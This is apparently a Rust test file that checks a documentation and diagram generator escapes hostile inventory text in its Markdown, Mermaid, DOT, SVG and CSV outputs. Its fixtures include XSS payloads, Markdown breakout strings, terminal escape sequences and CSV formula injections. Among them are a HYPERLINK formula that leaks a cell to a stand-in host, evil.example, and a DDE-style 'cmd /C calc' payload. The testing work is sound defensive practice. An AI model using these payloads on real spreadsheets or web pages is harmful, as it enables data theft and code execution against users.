//! Hostile asset text in everything `flowgate integrations` generates: Markdown pages, the
//! map as Mermaid, DOT and SVG, the asset and step graphs, and CSV.
//!
//! An inventory is loaded from YAML whose names, descriptions, frequencies and every other
//! free-text field carry HTML (`<script>`, `<img onerror>`), Markdown links to `javascript:`
//! and `data:` URLs, table pipes, line breaks that try to start a heading or a table row, a
//! trailing backslash, ESC and other control characters, and spreadsheet formulas. Each output
//! is then checked in its own terms: no HTML or foreign link survives in Markdown, every
//! table row keeps its cells, DOT strings all close, the SVG is well-formed XML 1.0, Mermaid
//! labels stay inside their quotes, and no CSV cell starts a formula.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use flowgate_integrations::risk::assess_all;
use flowgate_integrations::{docs, map, rows_csv, Inventory, RiskConfig};
use flowgate_load::{load_texts, Loaded};
use flowgate_model::{render_asset_graph, render_step_graphs, GraphFormat};
use std::path::Path;

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "<img src=x onerror=y>";
const JS_LINK: &str = "[x](javascript:alert(1))";
const DATA_IMAGE: &str = "![i](data:text/html;base64,PHNjcmlwdD4=)";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")";
/// A line break that tries to start a heading and a table row, then a trailing backslash.
const BREAKOUT: &str = "first\n# Injected heading\n| forged | row |\r\n```\nlast\\";
/// ESC sequences that repaint a terminal, BEL, DEL and a C1 control.
const CONTROLS: &str = "\u{1b}[2K\u{1b}[32mok\u{1b}[0m\u{7}\u{7f}\u{85}end";

/// `text` as a double-quoted YAML scalar, with every control character as an escape.
fn y(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Every hostile text at once.
fn all() -> String {
    [SCRIPT, IMG, JS_LINK, DATA_IMAGE, "a|b", BREAKOUT, CONTROLS].join(" ")
}

fn systems() -> String {
    format!(
        "kind: System\nid: shop\nname: {}\ncategory: commerce\nowner: {}\nproduct: {}\nversion: {}\nescalation: {}\n---\nkind: System\nid: erp\nname: {}\ncategory: erp\nowner: erp-team\n---\nkind: System\nid: legacy\nname: Legacy box\ncategory: internal\n",
        y(&format!("Shop {SCRIPT} \" ]]> \\")),
        y(FORMULA),
        y(IMG),
        y("2.4.7 `x`"),
        y(&format!("{JS_LINK} a|b")),
        y(&format!("ERP {BREAKOUT}")),
    )
}

fn evil_flow() -> String {
    let a = y(&all());
    format!(
        r#"kind: Integration
id: evil-flow
name: {name}
description: {desc}
owner: {formula}
escalation: {a}
purpose: {purpose}
source: shop
target: erp
direction: bidirectional
hook: message_queue
trigger: {{ event: {a}, timing: {a} }}
entities:
  - entity: {a}
    source_of_truth: shop
    conflict_rule: {a}
    fields:
      - {{ from: {a}, to: {a}, transform: {a}, default: {formula} }}
      - {{ from: "a`b|c", to: "`", transform: "x", default: "y" }}
constraints:
  rate_limit: {a}
  payload_limit: {a}
  required_fields: [{a}]
  auth: {a}
volume:
  frequency: {formula}
  average_per_hour: 1
  peak_per_hour: 10
  seasonal_peaks: [{a}]
errors:
  retries: {{ max: 2, backoff: fixed, initial: 30s }}
  dead_letter: {a}
  alert: {a}
  log: {a}
observability:
  metrics: [{a}]
  logs: {a}
  alerts: [{a}]
  dashboard: {a}
depends_on: [plain-flow]
deprecated_apis:
  - {{ api: {a}, replacement: {a}, removed_in: {a} }}
duplicates_native: {a}
platform: {{ name: {a}, min: {a}, max_verified: {a} }}
validation:
  - {a}
  - "1. looks like a list"
"#,
        name = y(&format!("Evil {SCRIPT} {BREAKOUT}")),
        desc = y(&format!("{DATA_IMAGE} {CONTROLS}")),
        formula = y(FORMULA),
        purpose = y(&format!("- {IMG} {JS_LINK}")),
    )
}

fn plain_flow() -> String {
    format!(
        "kind: Integration\nid: plain-flow\nname: {}\npurpose: Moves prices.\nsource: erp\ntarget: legacy\ndirection: outbound\nhook: rest\n",
        y("@SUM(1+9)*cmd|' /C calc'!A0")
    )
}

fn workflow() -> String {
    format!(
        "kind: Workflow\nid: evil-workflow\nname: {}\ntriggers:\n  - type: cart_abandoned\n    after: 1h\nsteps:\n  - id: check\n    type: branch\n    branches:\n      - name: {}\n        condition: \"true\"\n        next: pause\n    default: done\n  - id: pause\n    type: wait\n    duration: 1h\n    next: done\n  - id: done\n    type: exit\n",
        y(&all()),
        y(&all())
    )
}

fn hostile() -> Loaded {
    let texts = vec![
        ("assets/systems.yaml".to_owned(), systems()),
        ("assets/evil-flow.yaml".to_owned(), evil_flow()),
        ("assets/plain-flow.yaml".to_owned(), plain_flow()),
        ("assets/evil-workflow.yaml".to_owned(), workflow()),
    ];
    let loaded = load_texts(Path::new("/hostile"), &texts);
    let errors: Vec<String> = loaded
        .diagnostics
        .iter()
        .filter(|d| d.severity == flowgate_diagnostics::Severity::Error)
        .map(|d| format!("{}: {}", d.code, d.message))
        .collect();
    assert!(
        errors.is_empty(),
        "the hostile inventory must load: {errors:#?}"
    );
    loaded
}

// ---- Markdown -------------------------------------------------------------------------------

/// The lines of a Markdown page outside fenced code blocks, and the fenced blocks' lines.
fn split_fences(page: &str) -> (Vec<&str>, Vec<&str>) {
    let (mut prose, mut fenced) = (Vec::new(), Vec::new());
    let mut inside = false;
    for line in page.lines() {
        if line.starts_with("```") {
            inside = !inside;
        } else if inside {
            fenced.push(line);
        } else {
            prose.push(line);
        }
    }
    assert!(!inside, "a code fence was left open");
    (prose, fenced)
}

/// Whether the byte at `at` is escaped by an odd run of backslashes before it.
fn escaped(text: &str, at: usize) -> bool {
    text[..at].bytes().rev().take_while(|b| *b == b'\\').count() % 2 == 1
}

/// `line` without its code spans (a run of backticks up to the next run of the same length),
/// whose content Markdown shows as written.
fn without_code_spans(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some(open) = rest.find('`') {
        let at = line.len() - rest.len() + open;
        let fence_len = rest[open..].len() - rest[open..].trim_start_matches('`').len();
        if escaped(line, at) {
            out.push_str(&rest[..open + 1]);
            rest = &rest[open + 1..];
            continue;
        }
        let fence = &rest[open..open + fence_len];
        let after = &rest[open + fence_len..];
        let close = after.match_indices(fence).find(|(i, _)| {
            !after[i + fence_len..].starts_with('`') && (*i == 0 || !after[..*i].ends_with('`'))
        });
        out.push_str(&rest[..open]);
        match close {
            Some((i, _)) => rest = &after[i + fence_len..],
            None => {
                out.push_str(fence);
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The targets of every Markdown link (`](target)` whose `]` is not escaped).
fn link_targets(line: &str) -> Vec<&str> {
    line.match_indices("](")
        .filter(|(at, _)| !escaped(line, *at))
        .filter_map(|(at, _)| line[at + 2..].split(')').next())
        .collect()
}

/// The cells of a table row: split at `|` that no backslash escapes.
fn table_cells(line: &str) -> usize {
    line.char_indices()
        .filter(|(at, c)| *c == '|' && !escaped(line, *at))
        .count()
        .saturating_sub(1)
}

fn pages(loaded: &Loaded) -> Vec<docs::Page> {
    let inventory = Inventory::new(&loaded.model);
    let risks = assess_all(&inventory, &RiskConfig::default());
    docs::pages(&loaded.model, &inventory, &risks)
}

#[test]
fn markdown_pages_show_hostile_text_as_written() {
    let loaded = hostile();
    let pages = pages(&loaded);
    assert_eq!(pages.len(), 3, "index and two integration pages");
    for page in &pages {
        let (prose, fenced) = split_fences(&page.text);
        for line in &prose {
            let line = &without_code_spans(line);
            assert!(!line.contains('<'), "{}: raw HTML in {line:?}", page.file);
            for target in link_targets(line) {
                let id = target.strip_suffix(".md").unwrap_or("");
                assert!(
                    flowgate_model::validate_id(id).is_ok(),
                    "{}: a link to {target:?} in {line:?}",
                    page.file
                );
            }
            assert!(!line.starts_with("# Injected"), "{}: {line:?}", page.file);
            assert!(!line.starts_with("| forged"), "{}: {line:?}", page.file);
        }
        for line in &fenced {
            assert!(
                !line.contains("<script") && !line.contains("<img"),
                "{line:?}"
            );
        }
        let headings = prose.iter().filter(|l| l.starts_with("# ")).count();
        assert_eq!(headings, 1, "{}: one title", page.file);
        assert!(
            !page.text.chars().any(|c| c.is_control() && c != '\n'),
            "{}: a control character survived",
            page.file
        );
        assert!(page.text.contains("&lt;script&gt;"), "{}: shown", page.file);
    }
}

#[test]
fn markdown_tables_keep_their_columns() {
    let loaded = hostile();
    for page in pages(&loaded) {
        let (prose, _) = split_fences(&page.text);
        let mut columns = None;
        for line in prose {
            if !line.starts_with('|') {
                columns = None;
                continue;
            }
            let cells = table_cells(line);
            let expected = *columns.get_or_insert(cells);
            assert_eq!(cells, expected, "{}: {line:?}", page.file);
        }
    }
}

#[test]
fn missing_information_is_said_not_left_out() {
    let loaded = hostile();
    let pages = pages(&loaded);
    let plain = pages.iter().find(|p| p.file == "plain-flow.md").unwrap();
    for row in ["Escalation", "Runs", "Volume", "Works with"] {
        assert!(
            plain
                .text
                .contains(&format!("| {row} | _not documented_ |")),
            "{row} missing:\n{}",
            plain.text
        );
    }
}

// ---- Diagrams -------------------------------------------------------------------------------

/// Check DOT structure with a small tokenizer: every quoted string closes on its line
/// (backslash escapes the next character), braces balance outside strings, and every
/// statement line ends with `;`, `{` or `}`.
fn assert_dot_well_formed(dot: &str) {
    let mut depth = 0i32;
    for line in dot.lines() {
        let mut chars = line.chars();
        let mut in_string = false;
        let mut last = ' ';
        while let Some(c) = chars.next() {
            match (in_string, c) {
                (true, '\\') => {
                    assert!(chars.next().is_some(), "escape at end of line: {line:?}");
                }
                (_, '"') => in_string = !in_string,
                (false, '{') => depth += 1,
                (false, '}') => depth -= 1,
                _ => {}
            }
            if !in_string && !c.is_whitespace() {
                last = c;
            }
        }
        assert!(!in_string, "an unclosed string: {line:?}");
        assert!(matches!(last, ';' | '{' | '}'), "{line:?}");
        assert!(
            !line.chars().any(char::is_control),
            "a control character: {line:?}"
        );
    }
    assert_eq!(depth, 0, "braces do not balance:\n{dot}");
}

/// Mermaid: every label's quotes pair up on its line, and no HTML but flowgate's own
/// (`<br/>`, `<small>`) and arrows remains.
fn assert_mermaid_inert(mermaid: &str) {
    for line in mermaid.lines() {
        assert_eq!(line.matches('"').count() % 2, 0, "{line:?}");
        let rest = ["<br/>", "<small>", "</small>", "<-.->", "<-->"]
            .iter()
            .fold(line.to_owned(), |rest, ok| rest.replace(ok, ""));
        assert!(!rest.contains('<'), "raw HTML in {line:?}");
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
    assert!(mermaid.contains("#lt;script#gt;"), "shown as written");
}

#[test]
fn maps_and_graphs_stay_well_formed() {
    let loaded = hostile();
    let inventory = Inventory::new(&loaded.model);
    let risks = assess_all(&inventory, &RiskConfig::default());
    assert_dot_well_formed(&map::dot(&inventory, &risks));
    assert_mermaid_inert(&map::mermaid(&inventory, &risks));
    let model = &loaded.model;
    assert_dot_well_formed(&render_asset_graph(model, GraphFormat::Dot, true));
    assert_dot_well_formed(&render_step_graphs(model, GraphFormat::Dot));
    assert_mermaid_inert(&render_asset_graph(model, GraphFormat::Mermaid, true));
    assert_mermaid_inert(&render_step_graphs(model, GraphFormat::Mermaid));
    let dot = map::dot(&inventory, &risks);
    assert!(
        dot.contains("\\\\\\n(erp)"),
        "a trailing backslash is escaped:\n{dot}"
    );
}

/// Whether XML 1.0 can carry `c` at all.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r') || (c >= ' ' && !matches!(c, '\u{fffe}' | '\u{ffff}'))
}

#[test]
fn svg_map_is_well_formed_xml() {
    use quick_xml::events::Event;
    let loaded = hostile();
    let inventory = Inventory::new(&loaded.model);
    let risks = assess_all(&inventory, &RiskConfig::default());
    let svg = map::svg(&inventory, &risks, &all());
    assert!(svg.chars().all(xml_char), "a character XML 1.0 forbids");
    let mut reader = quick_xml::Reader::from_str(&svg);
    let mut texts = String::new();
    loop {
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(Event::Start(e) | Event::Empty(e)) => {
                let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                assert!(!matches!(name.as_str(), "script" | "img"), "<{name}>");
                for attribute in e.attributes() {
                    attribute.expect("a well-formed attribute");
                }
            }
            Ok(Event::Text(t)) => texts.push_str(&t.decode().unwrap()),
            Ok(Event::GeneralRef(r)) => {
                let name = r.decode().unwrap();
                assert!(
                    r.is_char_ref() || ["amp", "lt", "gt", "quot", "apos"].contains(&&*name),
                    "&{name};"
                );
            }
            Ok(_) => {}
            Err(e) => panic!("not well-formed at {}: {e}", reader.buffer_position()),
        }
    }
    assert!(
        texts.contains("script"),
        "the hostile text is shown as text"
    );
}

// ---- CSV ------------------------------------------------------------------------------------

/// Parse RFC 4180 CSV (quoted fields may hold commas, doubled quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => {
                assert!(field.is_empty(), "a quote inside an unquoted field");
                quoted = true;
            }
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "CSV ends mid-record"
    );
    records
}

#[test]
fn csv_cells_never_start_a_formula() {
    let loaded = hostile();
    let csv = rows_csv(&Inventory::new(&loaded.model).rows());
    let records = parse_csv(&csv);
    assert_eq!(records.len(), 3, "header and two integrations:\n{csv}");
    for record in &records {
        assert_eq!(record.len(), records[0].len(), "{record:?}");
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
    assert!(records
        .iter()
        .flatten()
        .any(|c| c.starts_with("'=HYPERLINK(")));
    assert!(records.iter().flatten().any(|c| c.starts_with("'@SUM(")));
    assert!(
        !csv.chars()
            .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r')),
        "an ESC or other control character in the CSV"
    );
}
